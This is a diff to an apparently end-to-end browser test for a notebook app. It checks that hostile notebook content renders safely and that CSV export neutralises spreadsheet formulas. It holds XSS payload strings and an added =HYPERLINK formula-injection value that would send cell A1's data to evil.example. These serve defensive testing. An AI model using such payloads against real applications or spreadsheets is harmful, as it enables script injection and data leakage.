@@ -12,6 +12,7 @@ import { afterAll, beforeAll, describe, expect, inject, it } from 'vitest';
 import { chromium, type Browser, type BrowserContext, type Page } from 'playwright-core';
 import { CSP, headersFile } from '../../src/pwa/csp';
 import { engineReady } from './support/browser';
+import { download } from './support/ui';
 import { bombEntries, buildZip, deflatedEntry, storedEntry } from '../share/hostileZip';
 
 const prose: { id: string; source: string; markdown: string }[] = JSON.parse(readFileSync(new URL('../fixtures/hostile/web/prose.json', import.meta.url), 'utf8'));
@@ -191,7 +192,8 @@ title: Hostile prose
 ${prose.map((p) => p.markdown).join('\n\n')}
 
 \`\`\`sql payloads
-SELECT '<img src=x onerror=alert(1)>' AS "<img src=y onerror=alert(2)>", '[x](javascript:alert(3))' AS link
+SELECT '<img src=x onerror=alert(1)>' AS "<img src=y onerror=alert(2)>", '[x](javascript:alert(3))' AS link,
+  '=HYPERLINK("https://evil.example/?"&A1,"Click")' AS comment, -12.5 AS amount
 \`\`\`
 `;
 
@@ -230,6 +232,12 @@ describe('a hostile notebook in the app', () => {
     const cell = s.page.locator('[data-testid="cell"][data-cell-id="payloads"]');
     await expect.poll(() => cell.getAttribute('data-status'), { timeout: 30_000 }).toBe('ok');
     expect(await cell.textContent()).toContain('<img src=x onerror=alert(1)>');
+    // CSV downloads through the worker (item 6): the formula is text to a spreadsheet, the number stays a number; raw keeps it.
+    const csv = await download(s.page, () => cell.getByTestId('download-csv').click());
+    expect(csv.text).toBe('<img src=y onerror=alert(2)>,link,comment,amount\r\n<img src=x onerror=alert(1)>,[x](javascript:alert(3)),"\'=HYPERLINK(""https://evil.example/?""&A1,""Click"")",-12.5\r\n');
+    const raw = await download(s.page, () => cell.getByTestId('download-csv-raw').click());
+    expect(raw.name).toBe('payloads.raw.csv');
+    expect(raw.text).toBe('<img src=y onerror=alert(2)>,link,comment,amount\r\n<img src=x onerror=alert(1)>,[x](javascript:alert(3)),"=HYPERLINK(""https://evil.example/?""&A1,""Click"")",-12.5\r\n');
     // Links are not clicked here (a new tab would ask the egress proxy for their hosts); the sanitizer
     // test above checks every one opens in a new tab, without opener or referrer, naming its host.
     expect(s.page.url()).toContain('#/nb/');
